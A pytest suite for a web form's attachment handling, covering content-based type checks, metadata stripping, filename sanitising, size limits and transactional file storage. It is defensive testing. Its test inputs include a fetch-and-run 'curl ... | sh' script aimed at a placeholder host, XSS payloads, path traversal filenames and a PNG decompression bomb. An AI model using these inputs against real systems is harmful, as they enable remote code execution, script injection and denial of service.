"""Attachments: type from the content, metadata removed, files and rows kept together.

Real files made with Pillow and pillow-heif, the real upload folder under the test's var/ dir, the
run's real database (SQLite and PostgreSQL).
"""

from __future__ import annotations

import asyncio
import io
import os
import random
import secrets
import stat
import struct
import zlib
from pathlib import Path
from tempfile import SpooledTemporaryFile

import pillow_heif
import pytest
from PIL import Image, PngImagePlugin
from PIL.TiffImagePlugin import IFDRational
from sqlmodel import Session, select
from starlette.datastructures import UploadFile

from intake import attachments
from intake.attachments import (
    MAX_BYTES,
    MAX_FILES,
    AttachmentError,
    CleanFile,
    clean_uploads,
    inspect,
    open_attachment,
    read_upload,
    safe_filename,
    save,
)
from intake.models import Attachment, Case
from intake.storage import LocalStorage, storage

GPS_IFD = 0x8825
ORIENTATION = 0x0112


# --- Real files ----------------------------------------------------------------------------------


def _picture(size: tuple[int, int] = (64, 48)) -> Image.Image:
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((20, 20, 200), (0, 0, size[0] // 2, size[1] // 3))  # a corner to find after turning
    return image


def _gps_exif(orientation: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[GPS_IFD] = {
        1: "N",
        2: (IFDRational(60, 1), IFDRational(10, 1), IFDRational(0, 1)),
        3: "E",
        4: (IFDRational(24, 1), IFDRational(56, 1), IFDRational(0, 1)),
    }
    exif[0x010F] = "PhoneMaker"  # camera make: harmless, but it must go too
    if orientation != 1:
        exif[ORIENTATION] = orientation
    return exif


def jpeg_bytes(exif: Image.Exif | None = None, size: tuple[int, int] = (64, 48)) -> bytes:
    out = io.BytesIO()
    options = {"exif": exif.tobytes()} if exif is not None else {}
    _picture(size).save(out, "JPEG", quality=85, comment=b"taken at home", **options)
    return out.getvalue()


def png_bytes(with_metadata: bool = False) -> bytes:
    out = io.BytesIO()
    options = {}
    if with_metadata:
        info = PngImagePlugin.PngInfo()
        info.add_text("Comment", "Kauppakatu 1, Helsinki")
        info.add_itxt("XML:com.adobe.xmp", "<x:xmpmeta>where</x:xmpmeta>")
        options = {"pnginfo": info, "exif": _gps_exif().tobytes()}
    _picture().save(out, "PNG", **options)
    return out.getvalue()


def _noise(size: int) -> bytes:
    """Bytes that look random but are the same in every process (test ids must match when two
    processes collect the suite)."""
    return random.Random(size).randbytes(size)


def heic_bytes(exif: Image.Exif | None = None) -> bytes:
    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    options = {"exif": exif.tobytes()} if exif is not None else {}
    _picture().save(out, "HEIF", quality=60, **options)
    return out.getvalue()


def pdf_bytes() -> bytes:
    out = io.BytesIO()
    _picture().save(out, "PDF")
    return out.getvalue()


def png_bomb(width: int = 40_000, height: int = 40_000) -> bytes:
    """A valid-looking PNG announcing 1.6 gigapixels in a few bytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = struct.pack(">I", zlib.crc32(kind + body))
        return struct.pack(">I", len(body)) + kind + body + crc

    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 4096))
        + chunk(b"IEND", b"")
    )


def _open(data: bytes) -> Image.Image:
    pillow_heif.register_heif_opener()
    return Image.open(io.BytesIO(data))


def uploaded_files(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


# --- The type comes from the content -------------------------------------------------------------


@pytest.mark.parametrize(
    ("make", "name", "content_type", "extension"),
    [
        (pdf_bytes, "hakemus.pdf", "application/pdf", "pdf"),
        (jpeg_bytes, "passi.jpg", "image/jpeg", "jpg"),
        (png_bytes, "kuvakaappaus.png", "image/png", "png"),
        # HEIC photos are turned into JPEG, which every staff computer opens.
        (heic_bytes, "IMG_0001.HEIC", "image/jpeg", "jpg"),
    ],
)
def test_each_allowed_type_is_accepted(make, name, content_type, extension):
    data = make()
    clean = inspect(name, data)
    assert clean.content_type == content_type
    assert clean.filename == name.rsplit(".", 1)[0] + "." + extension
    assert clean.size == len(clean.data) > 0
    import hashlib

    assert clean.sha256 == hashlib.sha256(clean.data).hexdigest()
    if content_type == "application/pdf":
        import pikepdf

        with pikepdf.open(io.BytesIO(clean.data)) as pdf:  # rewritten, still one whole page
            assert len(pdf.pages) == 1
            assert "/Info" not in pdf.trailer
    else:
        assert _open(clean.data).size == (64, 48)


def test_the_name_and_the_claimed_type_do_not_decide_the_type():
    # A PNG named .pdf is a PNG, and is named so.
    clean = inspect("document.pdf", png_bytes())
    assert clean.content_type == "image/png"
    assert clean.filename == "document.png"


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + _noise(200)
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 52 + b"PE\x00\x00" + _noise(200)
SHELL = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("invoice.pdf", ELF),
        ("invoice.pdf", PE),
        ("invoice.pdf", SHELL),
        ("photo.png", b"<!doctype html><html><script>alert(1)</script></html>"),
        ("photo.png", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        ("papers.pdf", b"PK\x03\x04" + _noise(100)),  # zip, docx, apk
        ("photo.jpg", b"GIF89a" + _noise(100)),
        ("photo.heic", b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + _noise(64)),
        ("note.pdf", b"   %PDF-1.7 hidden behind spaces\n%%EOF"),
    ],
)
def test_other_content_is_refused_whatever_its_name(name, data):
    with pytest.raises(AttachmentError) as refused:
        inspect(name, data)
    assert refused.value.code == "type_not_allowed"
    assert refused.value.filename == name
    assert "PDF" in str(refused.value)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("cut.pdf", b"%PDF-1.7\n1 0 obj << >> endobj\n" + b"x" * 4000),  # no end: cut short
        ("cut.jpg", jpeg_bytes()[:200]),
        ("fake.jpg", b"\xff\xd8\xff\xe0" + _noise(500)),
        ("fake.png", b"\x89PNG\r\n\x1a\n" + _noise(500)),
        ("cut.heic", heic_bytes()[:300]),
        ("cut.png", png_bytes()[:-20]),
    ],
)
def test_damaged_files_of_an_allowed_type_are_unreadable(name, data):
    with pytest.raises(AttachmentError) as refused:
        inspect(name, data)
    assert refused.value.code == "unreadable"


def test_a_decompression_bomb_is_refused_before_it_is_decoded():
    with pytest.raises(AttachmentError) as refused:
        attachments.check(png_bomb(), "bomb.png")  # the header alone refuses it
    assert refused.value.code == "too_complex"
    assert refused.value.filename == "bomb.png"


def test_a_picture_over_the_pixel_limit_is_refused(monkeypatch):
    monkeypatch.setattr(attachments, "MAX_PIXELS", 64 * 48 - 1)
    with pytest.raises(AttachmentError) as refused:
        inspect("big.jpg", jpeg_bytes())
    assert refused.value.code == "too_complex"


def test_empty_and_oversized_data_are_refused():
    with pytest.raises(AttachmentError) as empty:
        inspect("a.pdf", b"")
    assert empty.value.code == "empty"
    with pytest.raises(AttachmentError) as large:
        inspect("a.pdf", b"%PDF-1.4\n" + b"0" * MAX_BYTES + b"\n%%EOF")
    assert large.value.code == "too_large"


def test_error_codes_are_known_and_messages_are_english_and_translated():
    assert {code for code in attachments.MESSAGES} == {
        "too_large",
        "type_not_allowed",
        "too_many",
        "empty",
        "unreadable",
        "too_complex",
    }
    with pytest.raises(ValueError, match="unknown"):
        AttachmentError("nope")
    from yhteys.i18n import use_locale

    error = AttachmentError("too_many")
    assert str(error) == "At most 5 files can be sent at once."
    assert isinstance(error, ValueError)
    with use_locale("en"):
        english = error.user_message()
    assert "5" in english
    with use_locale("fi"):
        finnish = error.user_message()
    assert "5" in finnish
    assert finnish != english


# --- Location and other metadata are removed -----------------------------------------------------


def test_jpeg_loses_gps_and_comments_but_keeps_its_orientation():
    # Orientation 6: the camera was turned; the picture must still come out upright.
    data = jpeg_bytes(_gps_exif(orientation=6))
    before = _open(data)
    assert before.getexif().get_ifd(GPS_IFD)[2] == (60.0, 10.0, 0.0)  # the GPS is really there
    assert before.info.get("comment") == b"taken at home"

    clean = inspect("IMG_1234.jpg", data)
    after = _open(clean.data)
    assert after.format == "JPEG"
    assert not after.getexif().get_ifd(GPS_IFD)
    assert dict(after.getexif()) == {}
    assert "comment" not in after.info
    assert "exif" not in after.info
    assert b"PhoneMaker" not in clean.data
    assert b"taken at home" not in clean.data
    assert after.size == (48, 64)  # turned upright: width and height swapped
    # The blue corner, top left when drawn, is top right after turning 90 degrees clockwise.
    red, green, blue = after.convert("RGB").getpixel((40, 2))
    assert blue > 150 and red < 100


def test_jpeg_quality_is_kept():
    data = jpeg_bytes(_gps_exif(), size=(320, 240))
    clean = inspect("a.jpg", data)
    assert _open(clean.data).quantization == _open(data).quantization


def test_png_loses_text_xmp_and_exif_chunks():
    data = png_bytes(with_metadata=True)
    before = _open(data)
    assert "Comment" in before.info and "exif" in before.info  # the metadata is really there

    clean = inspect("screenshot.png", data)
    after = _open(clean.data)
    assert after.format == "PNG"
    assert not after.getexif().get_ifd(GPS_IFD)
    assert not after.info.keys() & {"Comment", "exif", "XML:com.adobe.xmp", "xmp"}
    for chunk_type in (b"tEXt", b"iTXt", b"zTXt", b"eXIf"):
        assert chunk_type not in clean.data
    assert b"Kauppakatu" not in clean.data


def test_heic_loses_its_exif_and_becomes_jpeg():
    data = heic_bytes(_gps_exif())
    before = _open(data)
    assert before.getexif().get_ifd(GPS_IFD)  # the GPS is really there

    clean = inspect("IMG_0042.HEIC", data)
    assert clean.content_type == "image/jpeg"
    after = _open(clean.data)
    assert after.format == "JPEG"
    assert not after.getexif().get_ifd(GPS_IFD)
    assert dict(after.getexif()) == {}
    assert b"PhoneMaker" not in clean.data


def test_transparent_heic_is_flattened_on_white():
    pillow_heif.register_heif_opener()
    out = io.BytesIO()
    Image.new("RGBA", (32, 32), (0, 0, 0, 0)).save(out, "HEIF")
    clean = inspect("x.heic", out.getvalue())
    assert _open(clean.data).convert("RGB").getpixel((16, 16))[0] > 240


# --- Names ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("../../etc/passwd", "passwd.pdf"),
        ("C:\\Users\\amina\\Desktop\\passi.jpg", "passi.pdf"),
        (".htaccess", "htaccess.pdf"),
        ("...", "attachment.pdf"),
        ("", "attachment.pdf"),
        ("evil\x00name\r\n.pdf", "evilname.pdf"),
        ("kuva\u202egpj.exe", "kuvagpj.pdf"),  # right-to-left override: no fake extensions
        ("a<b>:c|d?.pdf", "a_b_c_d.pdf"),
        ("صورة جواز السفر.pdf", "صورة جواز السفر.pdf"),
        ("report.pdf.exe", "report.pdf.pdf"),
    ],
)
def test_safe_filename(name, expected):
    assert safe_filename(name, "pdf") == expected


def test_safe_filename_is_at_most_120_characters():
    name = safe_filename("x" * 500 + ".pdf", "pdf")
    assert len(name) == 120
    assert name.endswith(".pdf")


# --- Reading uploads -----------------------------------------------------------------------------


class CountingFile(SpooledTemporaryFile):
    """A spooled upload that counts what was read from it."""

    def __init__(self) -> None:
        super().__init__(max_size=1024 * 1024)
        self.bytes_read = 0

    def read(self, *args):  # noqa: ANN002, ANN201
        data = super().read(*args)
        self.bytes_read += len(data)
        return data


def _upload(data: bytes, filename: str = "big.pdf", size_known: bool = False) -> UploadFile:
    file = CountingFile()
    file.write(data)
    file.seek(0)
    return UploadFile(file=file, filename=filename, size=len(data) if size_known else None)


def test_read_upload_returns_the_bytes():
    data = pdf_bytes()
    assert asyncio.run(read_upload(_upload(data))) == data


def test_an_oversized_upload_is_refused_without_reading_it_all():
    upload = _upload(b"%" * (MAX_BYTES + 1))
    with pytest.raises(AttachmentError) as refused:
        asyncio.run(read_upload(upload))
    assert refused.value.code == "too_large"
    assert upload.file.bytes_read <= MAX_BYTES + attachments.CHUNK


def test_an_upload_whose_size_is_known_is_refused_before_any_read():
    upload = _upload(b"%" * (MAX_BYTES + 1), size_known=True)
    with pytest.raises(AttachmentError) as refused:
        asyncio.run(read_upload(upload))
    assert refused.value.code == "too_large"
    assert upload.file.bytes_read == 0


def test_exactly_max_bytes_is_read():
    upload = _upload(b"%" * MAX_BYTES)
    assert len(asyncio.run(read_upload(upload))) == MAX_BYTES


def test_a_real_form_post_skips_empty_file_inputs_and_counts_files():
    """Through Starlette's own multipart parser, as the forms receive them."""
    from starlette.applications import Starlette
    from starlette.requests import Request
    from starlette.responses import JSONResponse
    from starlette.routing import Route
    from starlette.testclient import TestClient

    async def post(request: Request) -> JSONResponse:
        form = await request.form()
        try:
            files = await clean_uploads(form.getlist("attachments"))
        except AttachmentError as exc:
            return JSONResponse({"error": exc.code, "file": exc.filename})
        return JSONResponse([[f.filename, f.content_type] for f in files])

    client = TestClient(Starlette(routes=[Route("/", post, methods=["POST"])]))
    empty_input = ("attachments", ("", b"", "application/octet-stream"))
    photo = ("attachments", ("kuva.jpg", jpeg_bytes(), "image/jpeg"))
    disguised = ("attachments", ("kuva.jpg", ELF, "image/jpeg"))

    assert client.post("/", files=[empty_input]).json() == []
    assert client.post("/", files=[photo, empty_input]).json() == [["kuva.jpg", "image/jpeg"]]
    assert client.post("/", files=[photo, disguised]).json() == {
        "error": "type_not_allowed",
        "file": "kuva.jpg",
    }
    too_many = client.post("/", files=[photo] * (MAX_FILES + 1)).json()
    assert too_many == {"error": "too_many", "file": ""}


def test_clean_uploads_counts_files_sent_before():
    with pytest.raises(AttachmentError) as refused:
        asyncio.run(clean_uploads([_upload(pdf_bytes(), "a.pdf")], already=MAX_FILES))
    assert refused.value.code == "too_many"


# --- Storing -------------------------------------------------------------------------------------


def _of(case_id: int):  # noqa: ANN202 - a select statement
    return select(Attachment).where(Attachment.case_id == case_id)


def _case(**values: object) -> Case:
    defaults: dict[str, object] = {
        "reference": "YH-" + secrets.token_hex(4).upper(),
        "kind": "tracing",
        "language": "fi",
        "ui_locale": "fi",
        "contact_channel": "none",
        "message": "Etsin veljeäni.",
        "status_secret_hash": secrets.token_hex(32),
    }
    defaults.update(values)
    return Case(**defaults)


@pytest.fixture
def case_id(session: Session) -> int:
    case = _case()
    session.add(case)
    session.commit()
    assert case.id is not None
    return case.id


@pytest.fixture
def upload_root(settings) -> Path:
    return settings.upload_dir


def _files() -> list[CleanFile]:
    return [inspect("passi.jpg", jpeg_bytes(_gps_exif())), inspect("päätös.pdf", pdf_bytes())]


def test_saved_files_are_private_named_by_key_and_read_back(session, case_id, upload_root):
    files = _files()
    rows = save(session, case_id, files)
    session.commit()

    stored = session.exec(_of(case_id).order_by(Attachment.id)).all()
    assert [a.filename for a in stored] == ["passi.jpg", "päätös.pdf"]
    assert [a.content_type for a in stored] == ["image/jpeg", "application/pdf"]
    assert [a.id for a in rows] == [a.id for a in stored]
    on_disk = uploaded_files(upload_root)
    assert len(on_disk) == 2
    for attachment, file in zip(stored, files, strict=True):
        path = upload_root / attachment.storage_key[:2] / attachment.storage_key[2:4]
        path = path / attachment.storage_key
        assert path in on_disk
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
        assert open_attachment(attachment) == file.data
        assert attachment.size == file.size and attachment.sha256 == file.sha256
    assert not any("passi" in p.name or p.name.startswith(".tmp") for p in on_disk)


def test_the_upload_folder_is_outside_the_static_root(settings):
    from yhteys.templating import STATIC_DIR

    assert not settings.upload_dir.resolve().is_relative_to(STATIC_DIR.resolve())


def test_a_changed_file_is_not_handed_out(session, case_id, upload_root):
    (attachment,) = save(session, case_id, [inspect("a.pdf", pdf_bytes())])
    session.commit()
    path = next(iter(uploaded_files(upload_root)))
    path.write_bytes(b"%PDF-1.4 something else\n%%EOF")
    with pytest.raises(AttachmentError) as refused:
        open_attachment(attachment)
    assert refused.value.code == "unreadable"


def test_rollback_deletes_the_written_files(session, case_id, upload_root):
    save(session, case_id, _files())
    assert len(uploaded_files(upload_root)) == 2
    session.rollback()
    assert uploaded_files(upload_root) == []
    assert session.exec(_of(case_id)).all() == []


def test_a_failed_insert_leaves_no_file(session, case_id, upload_root):
    from sqlalchemy.exc import IntegrityError

    with pytest.raises(IntegrityError):
        save(session, case_id + 999, _files())  # no such case: the foreign key refuses
    session.rollback()
    assert uploaded_files(upload_root) == []


def test_closing_without_commit_deletes_the_files(settings, case_id, upload_root):
    from yhteys.db import engine_for

    with Session(engine_for(settings.database_url)) as other:
        save(other, case_id, _files())
        assert len(uploaded_files(upload_root)) == 2
    assert uploaded_files(upload_root) == []


def test_session_scope_rolls_back_files_with_the_case(settings, case_id, upload_root):
    from yhteys.db import session_scope

    with pytest.raises(RuntimeError), session_scope() as db:
        save(db, case_id, _files())
        raise RuntimeError("the notification could not be queued")
    assert uploaded_files(upload_root) == []
    with session_scope() as db:
        save(db, case_id, _files())
    assert len(uploaded_files(upload_root)) == 2


def test_a_rolled_back_savepoint_deletes_only_its_own_files(session, case_id, upload_root):
    (kept,) = save(session, case_id, [inspect("kept.pdf", pdf_bytes())])
    savepoint = session.begin_nested()
    save(session, case_id, _files())
    assert len(uploaded_files(upload_root)) == 3
    savepoint.rollback()
    assert len(uploaded_files(upload_root)) == 1
    session.commit()
    assert open_attachment(kept).startswith(b"%PDF-")
    assert [a.filename for a in session.exec(_of(case_id)).all()] == ["kept.pdf"]


def test_files_of_a_released_savepoint_go_when_the_outer_transaction_rolls_back(
    session, case_id, upload_root
):
    with session.begin_nested():
        save(session, case_id, _files())
    assert len(uploaded_files(upload_root)) == 2
    session.rollback()
    assert uploaded_files(upload_root) == []


def test_committed_files_survive_a_later_rollback(session, case_id, upload_root):
    save(session, case_id, _files())
    session.commit()
    session.add(_case(kind="other"))
    session.flush()
    session.rollback()
    assert len(uploaded_files(upload_root)) == 2


def test_refused_files_leave_nothing_on_disk(session, case_id, upload_root):
    for name, data in [("x.pdf", ELF), ("x.png", b"<html>"), ("x.jpg", jpeg_bytes()[:100])]:
        with pytest.raises(AttachmentError):
            save(session, case_id, [inspect(name, data)])
    with pytest.raises(AttachmentError) as refused:
        save(session, case_id, [inspect("a.pdf", pdf_bytes())] * (MAX_FILES + 1))
    assert refused.value.code == "too_many"
    session.commit()
    assert uploaded_files(upload_root) == []


def test_deleting_attachments_removes_files_only_on_commit(session, case_id, upload_root):
    rows = save(session, case_id, _files())
    session.commit()
    attachments.delete(session, rows[:1])
    session.rollback()
    assert len(uploaded_files(upload_root)) == 2  # the row is back, so is its file

    rows = session.exec(_of(case_id).order_by(Attachment.id)).all()
    attachments.delete(session, rows[:1])
    assert len(uploaded_files(upload_root)) == 2
    session.commit()
    assert len(uploaded_files(upload_root)) == 1
    assert open_attachment(rows[1])


def test_sweep_deletes_only_old_files_without_a_row(session, case_id, upload_root):
    save(session, case_id, _files())
    session.commit()
    orphan = storage().save(b"left by a crash")
    assert attachments.sweep_orphans(session) == 0  # too young: its transaction may be open
    path = LocalStorage(upload_root).path(orphan)
    old = path.stat().st_mtime - 2 * 24 * 3600
    os.utime(path, (old, old))
    assert attachments.sweep_orphans(session) == 1
    assert not path.exists()
    assert len(uploaded_files(upload_root)) == 2


def test_storage_keys_cannot_name_other_paths(tmp_path):
    local = LocalStorage(tmp_path)
    for key in ("../../etc/passwd", "ab/../../x", "", "A" * 32):
        with pytest.raises(ValueError, match="not a storage key"):
            local.open(key)
        with pytest.raises(ValueError, match="not a storage key"):
            local.delete(key)
    key = local.save(b"data")
    assert local.open(key) == b"data"
    local.delete(key)
    local.delete(key)  # already gone: not an error
    with pytest.raises(FileNotFoundError):
        local.open(key)


def test_content_disposition_always_downloads():
    header = attachments.content_disposition('päätös "1".pdf')
    assert header.startswith("attachment;")
    assert 'filename="p__t_s _1_.pdf"' in header
    assert "filename*=UTF-8''p%C3%A4%C3%A4t%C3%B6s%20%221%22.pdf" in header


def test_rollback_deletes_from_the_folder_the_files_went_to(
    session, case_id, upload_root, use_settings, tmp_path
):
    save(session, case_id, _files())
    use_settings(upload_dir=tmp_path / "elsewhere")
    session.rollback()
    assert uploaded_files(upload_root) == []


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        (b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic", "image/heic"),
        (b"\x00\x00\x00\x18ftypmif1\x00\x00\x00\x00mif1heix", "image/heic"),  # brand listed later
        (b"\x00\x00\x00\x14ftypmp42\x00\x00\x00\x00isom", None),  # a video
        (b"\x00\x00\x00\x18ftypavif\x00\x00\x00\x00avifmiaf", None),  # AVIF is not HEIC
        (b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf", None),
        (b"\xff\xff\xff\xffftypheic\x00\x00\x00\x00heic", None),  # a box larger than the file
    ],
)
def test_heif_is_recognised_by_its_ftyp_box(header, expected):
    assert attachments.sniff(header + b"\x00" * 64) == expected


def test_download_headers_make_a_private_download(session, case_id):
    (attachment,) = save(session, case_id, [inspect("päätös.pdf", pdf_bytes())])
    headers = attachments.download_headers(attachment)
    assert headers["content-disposition"].startswith("attachment;")
    assert "no-store" in headers["cache-control"]
    assert "sandbox" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
